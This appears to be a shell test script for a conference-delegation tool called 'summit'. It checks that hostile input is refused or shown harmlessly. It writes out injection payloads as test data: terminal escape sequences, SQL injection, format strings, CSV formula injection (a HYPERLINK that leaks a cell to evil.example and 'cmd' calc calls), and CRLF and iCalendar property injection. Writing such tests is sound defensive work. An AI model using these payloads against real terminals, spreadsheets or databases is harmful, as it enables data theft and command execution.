#!/bin/sh
# Hostile input, as an attacker would type or send it: terminal escapes,
# C1 controls, bidirectional overrides, NULs, invalid UTF-8, 1 MB fields,
# addresses with line breaks, SQL, format strings, formula prefixes, a BOM
# and CRLF. Each is refused naming file, line and column (the message
# quoting the value escaped, the file unchanged), or stored as it is and
# shown harmlessly by list, show, check, status, the exports and the TUI.
. "$TESTLIB"
here=$(dirname "$TESTLIB")/..
new_event
export SUMMIT_TODAY=2007-07-02

esc=$(printf '\033')
cr=$(printf '\r')
# What no byte a terminal receives from the data may hold: ESC, BEL, CR,
# C1 controls (UTF-8 C2 80-9F), bidirectional embeddings, overrides and
# isolates (E2 80 AA-AE, E2 81 A6-A9).
unsafe=$(printf '\033|\007|\r|\302[\200-\237]|\342\200[\252-\256]|\342\201[\246-\251]')
# harmless FILE: none of those bytes in FILE.
harmless() { ! LC_ALL=C grep -qE "$unsafe" "$1"; }
# shown_harmlessly DESCRIPTION CMD...: runs CMD, expects its stdout and
# stderr free of them.
shown_harmlessly() {
	desc=$1
	shift
	"$@" >"$tmp/shown" 2>&1
	if harmless "$tmp/shown"; then pass "$desc"; else
		fail "$desc" "$(od -c "$tmp/shown" | head -20)"
	fi
}
sql() { sqlite3 "$db" "$1"; }

# ---- refused, with file, line and column ----
# refused NAME-BYTES EXPECTED DESCRIPTION [COLUMN]: a delegations file whose
# third line has NAME-BYTES in the name column (or COLUMN).
refused() {
	column=${4:-name}
	{
		printf 'code,name,kind,status,email\r\n'
		printf 'GHA,Ghana,state,participant,\r\n'
		if [ "$column" = name ]; then
			printf 'TGO,"%b",state,participant,\r\n' "$1"
		else
			printf 'TGO,Togo,state,participant,"%b"\r\n' "$1"
		fi
	} >"$tmp/bad.csv"
	before=$(snapshot)
	run summit import delegations "$tmp/bad.csv"
	expect_rc 1 "$3: refused"
	expect_err "$tmp/bad.csv:3: $2" "$3: the message names file, line and column"
	printf '%s' "$err" >"$tmp/err"
	check "$3: the message quotes it harmlessly" harmless "$tmp/err"
	check "$3: the file is unchanged" test "$(snapshot)" = "$before"
}
refused 'Togo\033]0;owned\007\033[2J' \
	'column name: got "Togo\x1b]0;owned\x07\x1b[2J", with control or bidirectional-override characters' \
	"an OSC title and a clear-screen sequence"
refused 'Togo\rGhana' 'column name: got "Togo\rGhana", with control' "a carriage return alone"
refused 'To\302\205go' 'column name: got "To\u0085go", with control' "a C1 control (NEL)"
refused 'ogoT\342\200\256' 'column name: got "ogoT\u202e", with control or bidirectional-override' \
	"a right-to-left override"
refused 'Togo\342\201\246x\342\201\251' 'column name: got "Togo\u2066x\u2069"' "a bidirectional isolate"
refused 'To\377go' 'column name: not valid UTF-8, expected UTF-8 text' "invalid UTF-8"
refused 'To\000go' 'a NUL byte in a field, expected text' "a NUL byte"
refused 'togo@example.tg\r\nX-INJECTED:1' \
	'column email: got "togo@example.tg\nX-INJECTED:1", with control' \
	"an address with a line break" email
big=$(head -c 1048576 /dev/zero | tr '\0' 'x')
refused "$big" 'column name: 1048576 bytes long, expected at most 4000' "a 1 MB field"
printf 'name,name,x\000\n' >"$tmp/nul-header.csv"
run summit import people "$tmp/nul-header.csv"
expect_rc 1 "a NUL in a header field: refused, no crash"
expect_err "$tmp/nul-header.csv:1: a NUL byte in a field" "naming the line"

# The same checks on the command line, naming the field.
run summit add delegations code=TGO "name=$(printf 'Togo\033[2J')" kind=state status=participant
expect_rc 1 "add: an escape sequence in a name is refused"
expect_err 'name: got "Togo\x1b[2J"' "add: quoted escaped"
printf '%s' "$err" >"$tmp/err"
check "add: the refusal is harmless on a terminal" harmless "$tmp/err"
run summit add delegations code=TGO "name=Togo" kind=state status=participant \
	"email=$(printf 'a@b.tg\r\nX-INJECTED:1')"
expect_rc 1 "add: an address with a line break is refused"
run summit add delegations code=TGO "name=Togo" kind=state status=participant \
	"email=$(printf 'a@b.tg\nX-INJECTED:1')"
expect_rc 1 "add: an address with a newline is refused (a name may have one, not an address)"

# ---- stored as they are, shown as they are ----
cat >"$tmp/odd.csv" <<'EOF'
code,name,kind,status,head,email
SQL,"Robert'); DROP TABLE delegations;--",state,participant,"' OR 1=1 --",
FMT,%s%n%x%p%99999999d,state,participant,%n%n%n,
EQ,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",state,participant,+cmd|' /C calc'!A0,
AT,@SUM(1+1)*cmd|' /C calc'!A0,state,participant,-2+3,
QU,'Quoted,state,participant,'=1,
NUM,Numbers,state,participant,-12,
EOF
run summit import delegations "$tmp/odd.csv"
expect_rc 0 "SQL, format strings and formula prefixes are plain text"
check "the table is still there, with every row" \
	test "$(sql "SELECT count(*) FROM delegations WHERE code IN ('SQL', 'FMT', 'EQ', 'AT', 'QU', 'NUM')")" = 6
check "SQL is stored as typed" \
	test "$(sql "SELECT name FROM delegations WHERE code = 'SQL'")" = "Robert'); DROP TABLE delegations;--"
run summit show delegations FMT
expect_out '%s%n%x%p%99999999d' "a format string is shown as typed"
run summit list delegations
expect_out "%s%n%x%p%99999999d" "list shows it as typed too"
run summit add delegations code=PCT "name=100% %s" kind=state status=participant
expect_out "added delegation PCT" "the added line is not a format either"

# Formulas are protected on export (OWASP: a quote first) and read back.
run summit export csv delegations -o "$tmp/out.csv"
expect_rc 0 "export csv"
check "a cell starting with = is written after a quote" \
	grep -qF "EQ,\"'=HYPERLINK(\"\"http" "$tmp/out.csv"
check "so are +, - and @" grep -qF "AT,\"'@SUM(1+1)*cmd|' /C calc'!A0\",state,participant,\"'-2+3\"" "$tmp/out.csv"
check "a head starting with + too" grep -qF "\"'+cmd|' /C calc'!A0\"" "$tmp/out.csv"
check "a value starting with a quote keeps it behind another" grep -qF "QU,\"''Quoted\"" "$tmp/out.csv"
check "a negative number stays a number" grep -qF "NUM,Numbers,state,participant,-12," "$tmp/out.csv"
run summit list delegations --format csv
expect_out "\"'=HYPERLINK" "list --format csv protects them too"
first=$db
db=$tmp/again.db
new_event
run summit import delegations "$tmp/out.csv"
expect_rc 0 "the export imports again"
check "every value reads back as it was" test \
	"$(sqlite3 "$db" 'SELECT code, name, head FROM delegations ORDER BY code')" = \
	"$(sqlite3 "$first" 'SELECT code, name, head FROM delegations ORDER BY code')"
db=$first

# A byte-order mark, CRLF line ends, a quoted cell broken by CRLF.
printf '\357\273\277code,name,kind,status,head\r\nBOM,Bomland,state,observer,"Line one\r\nLine two"\r\n' \
	>"$tmp/bom.csv"
run summit import delegations "$tmp/bom.csv"
expect_rc 0 "a BOM and CRLF"
check "the BOM is not part of the first column" test "$(sql "SELECT name FROM delegations WHERE code = 'BOM'")" = Bomland
check "a CRLF inside a cell is kept as a newline, no CR" \
	test "$(sql "SELECT head FROM delegations WHERE code = 'BOM'")" = "$(printf 'Line one\nLine two')"

# ---- written by another program: shown harmlessly everywhere ----
db=$tmp/sample.db
summit load "$SAMPLE" >/dev/null || { echo "Bail out! cannot load the sample"; exit 1; }
# MOZ has no hotel (a check error naming it); the event's name is in status.
hostile=$(printf 'Mo\033]0;owned\007\033[2Jz\302\233\342\200\256bique\rX')
sqlite3 "$db" "UPDATE delegations SET name = '$hostile', head = '$hostile' WHERE code = 'MOZ';
	UPDATE event SET name = '$hostile Ministerial';
	UPDATE sessions SET description = '$hostile' WHERE id = 1;"
shown_harmlessly "list" summit list delegations
shown_harmlessly "list --format tsv" summit list delegations --format tsv
shown_harmlessly "list --format json" summit list delegations --format json
shown_harmlessly "show" summit show delegations MOZ
shown_harmlessly "show event" summit show event
shown_harmlessly "check" summit --today 2007-11-07 check
shown_harmlessly "check --format tsv" summit --today 2007-11-07 check --format tsv
shown_harmlessly "status" summit --today 2007-11-07 status
shown_harmlessly "a refusal quoting it" summit set delegations MOZ "name=$hostile"
run summit show delegations MOZ
expect_out 'Mo\x1b]0;owned\x07\x1b[2Jz\u009b\u202ebique\rX' "show writes the characters as escapes"
run summit --today 2007-11-07 check --only no-hotel
expect_out 'Mo\x1b]0;owned\x07\x1b[2Jz\u009b\u202ebique\rX' "and so does check"
run summit list delegations --format json
expect_out '"Mo\u001b]0;owned\u0007\u001b[2Jz\u009b\u202ebique\u000dX"' "JSON escapes them as JSON does"
summit export ics --delegation MOZ -o "$tmp/moz.ics"
check "the delegation's calendar carries no control character" \
	test "$(LC_ALL=C tr -d '\r\n\t' <"$tmp/moz.ics" | LC_ALL=C grep -cE "$(printf '[\001-\037\177]|\302[\200-\237]')")" = 0
check "nor a bidirectional override" test "$(LC_ALL=C grep -cE "$(printf '\342\200[\252-\256]')" "$tmp/moz.ics")" = 0
run /usr/bin/python3 "$here/ics/props.py" "$tmp/moz.ics"
expect_rc 0 "and calendar programs still read it"

# ---- iCalendar injection: exactly the properties summit writes ----
sqlite3 "$db" "UPDATE delegations SET name = 'Sénégal' || char(13, 10) || 'X-INJECTED:1' || char(10) || 'ATTENDEE:mailto:evil@example.org',
	email = 'protocole@example.sn' WHERE code = 'SEN';
	UPDATE event SET name = 'UNESCO, Paris; 2007';"
summit export ics --invitations "$tmp/inv" --organizer 'host@example.ml' >/dev/null 2>&1
run /usr/bin/python3 "$here/ics/props.py" "$tmp/inv/SEN.ics"
expect_same "$out" "VCALENDAR CALSCALE METHOD PRODID VERSION X-WR-TIMEZONE
VEVENT ATTENDEE DESCRIPTION DTEND DTSTAMP DTSTART LOCATION ORGANIZER SEQUENCE STATUS SUMMARY UID" \
	"a name with line breaks adds no property to an invitation"
check "one ATTENDEE, the delegation's" test "$(grep -c '^ATTENDEE' "$tmp/inv/SEN.ics")" = 1
# unfold FILE: the file's logical lines (RFC 5545 3.1), without CR.
unfold() { tr -d '\r' <"$1" | awk '/^ /{printf "%s", substr($0, 2); next} NR > 1 {print ""} {printf "%s", $0} END {print ""}'; }
check "at its address" contains "$(unfold "$tmp/inv/SEN.ics")" ':mailto:protocole@example.sn'
check "its CN holds the name on one line" contains "$(unfold "$tmp/inv/SEN.ics")" 'CN="Sénégal  X-INJECTED:1 ATTENDEE:mailto:evil@example.org"' 
sqlite3 "$db" "UPDATE delegations SET email = 'protocole@example.sn' || char(13, 10) || 'X-INJECTED:2' WHERE code = 'SEN'"
run summit export ics --invitations "$tmp/inv2" --organizer 'host@example.ml'
expect_rc 1 "an address with a line break is not written into an invitation"
expect_err 'delegation SEN: got "protocole@example.sn\r\nX-INJECTED:2", not an address' "saying which and why"
check "and no file carries it" test ! -e "$tmp/inv2/SEN.ics"
run summit export ics --invitations "$tmp/inv3" --organizer "$(printf 'host@example.ml\r\nX-INJECTED:3')"
expect_rc 1 "nor an organizer with one"
summit export ics --delegation MLI -o "$tmp/mli.ics"
check "X-WR-CALNAME escapes commas and semicolons as TEXT" \
	grep -q '^X-WR-CALNAME:UNESCO\\, Paris\\; 2007: Mali (MLI)' "$tmp/mli.ics"
run /usr/bin/python3 "$here/ics/props.py" "$tmp/mli.ics"
expect_out "X-WR-CALNAME UNESCO, Paris; 2007: Mali (MLI)" "calendar programs read the name whole"

# ---- the TUI: the raw bytes it sends ----
. "$(dirname "$TESTLIB")/tui.sh"
sqlite3 "$db" "UPDATE delegations SET name = '$hostile' WHERE code = 'MOZ'"
tui_start --today 2007-11-07
expect_screen "days left" "the UI opens"
tmux -L "$sock" pipe-pane -t summit -o "cat >>'$tmp/raw'"
keys 2
keys /
type_text "owned"
expect_screen 'MOZ       Mo\x1b]0;owned\x07\x1b[ state' \
	"the Delegations view finds the name and shows its escapes written out"
keys Enter
keys Enter
expect_screen 'Mo\x1b]0;owned\x07\x1b[2Jz\u009b\u202ebique\rX (MOZ)' \
	"the delegation's page shows all of it escaped"
keys q
keys 9
expect_screen "no-hotel" "the Problems view, whose messages name it"
tui_stop
check "the TUI sent bytes" test -s "$tmp/raw"
tuisafe=$(printf '\033\\]|\007|\302[\200-\237]|\342\200[\252-\256]|\342\201[\246-\251]')
tui_harmless() { ! LC_ALL=C grep -qE "$tuisafe" "$1"; }
check "no OSC, BEL, C1 control or bidirectional override reached the terminal" \
	tui_harmless "$tmp/raw"

echo "1..$test_count"
exit $((test_failed > 0))
